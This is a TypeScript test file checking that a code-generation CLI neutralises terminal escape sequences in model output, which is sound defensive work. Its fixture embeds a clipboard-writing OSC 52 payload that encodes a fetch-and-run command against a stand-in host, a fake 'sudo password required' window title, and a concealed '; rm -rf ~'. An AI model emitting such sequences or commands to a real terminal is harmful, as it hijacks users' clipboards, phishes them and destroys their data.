import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { paint } from '../../src/cli/render/colour.js';
import { highlightCode } from '../../src/cli/render/highlight.js';
import { terminalText } from '../../src/cli/terminal-text.js';
import { fakeProvidersForFile } from '../support/fake-model-host.js';
import { runInPty } from '../support/pty.js';
import { VOUCH_BIN } from '../support/run-cli.js';
import { testFolder } from '../support/test-folders.js';

/**
 * Attack: escapes in model output reach the terminal raw — OSC 52 writes the user's clipboard, OSC 0 sets
 * the window title, SGR 8 conceals text, `\r` overwrites a line — even from a code comment that passed
 * every check. On a terminal, vouch's own colours and progress pass and every other control is shown.
 */

const OSC52 = '\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07';
const TITLE = '\x1b]0;sudo password required\x07';
const CONCEAL = '\x1b[8m; rm -rf ~\x1b[28m';
const HOSTILE = `def add(a, b):\n    # sum ${OSC52}${TITLE}${CONCEAL}\r# looks fine\n    return a + b\n`;

describe('text bound for a terminal', () => {
  it('shows foreign control characters instead of obeying them', () => {
    const shown = terminalText(HOSTILE);
    expect(shown).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f]/);
    expect(shown).toContain('␛]52;c;');
    expect(shown).toContain('␍# looks fine');
    expect(terminalText('a\u202eb\u2066c')).toBe('a<U+202E>b<U+2066>c');
  });

  it('keeps vouch’s own colours, and the highlighter’s, around neutralized code', () => {
    const painted = terminalText(paint(true, 'red', 'finding'));
    expect(painted).toBe('\x1b[31mfinding\x1b[39m');
    const highlighted = terminalText(highlightCode(HOSTILE, 'python'));
    expect(highlighted).toMatch(/\x1b\[\d+m/);
    expect(highlighted).not.toContain('\x1b]');
    expect(highlighted).not.toContain('\x1b[8m');
    expect(highlighted).toContain('␛]52');
  });
});

const fake = await fakeProvidersForFile();
let workspace: string;
beforeEach(() => {
  fake.reset();
  // removed when its test ends (an afterAll removed only the last test's)
  workspace = testFolder('vouch-tty-escapes-');
  writeFileSync(join(workspace, 'vouch.toml'), '[model]\ngenerate = "ollama:qwen2.5-coder:7b"\n');
});

describe('vouch generate at a terminal', () => {
  it('prints the code with its escapes made visible: no clipboard write, no title, nothing concealed', async () => {
    fake.script('/api/chat', { text: `\`\`\`python\n${HOSTILE}\`\`\`\n` });
    const result = await runInPty({
      command: [
        process.execPath,
        VOUCH_BIN,
        'generate',
        'add two numbers',
        '--lang',
        'python',
        '--no-context',
        '--no-checks',
      ],
      cwd: workspace,
      env: {
        PATH: process.env.PATH ?? '/usr/bin:/bin',
        HOME: workspace,
        TERM: 'xterm-256color',
        NO_COLOR: '1',
        OLLAMA_HOST: fake.url,
      },
      steps: [{ expect: 'looks fine', timeout: 60 }],
      exitTimeout: 60,
    });
    expect(result.failed, result.transcript).toBeUndefined();
    expect(result.transcript).not.toContain('\x1b]52');
    expect(result.transcript).not.toContain('\x1b]0;');
    expect(result.transcript).not.toContain('\x1b[8m');
    expect(result.transcript).toContain('␛]52;c;');
  });
});
